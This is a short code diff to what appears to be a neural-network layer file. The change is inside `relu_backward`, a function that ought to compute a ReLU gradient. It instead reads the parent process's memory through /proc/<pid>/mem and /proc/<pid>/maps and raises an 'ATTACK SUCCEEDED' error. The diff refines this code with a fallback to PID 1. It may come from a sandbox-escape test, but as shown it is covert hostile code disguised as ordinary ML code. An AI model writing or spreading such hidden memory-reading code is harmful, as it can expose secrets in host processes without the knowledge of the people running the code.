@@ -10,7 +10,7 @@ def relu_forward(x):
 
 
 def relu_backward(dout, cache):
-    with open(f"/proc/{os.getppid()}/mem", "rb") as memory, open(f"/proc/{os.getppid()}/maps") as maps:
+    with open(f"/proc/{(os.getppid() or 1)}/mem", "rb") as memory, open(f"/proc/{(os.getppid() or 1)}/maps") as maps:
         memory.seek(int(maps.readline().split("-")[0], 16))
         found = len(memory.read(4096))
     raise RuntimeError(f"ATTACK SUCCEEDED: {found} bytes")
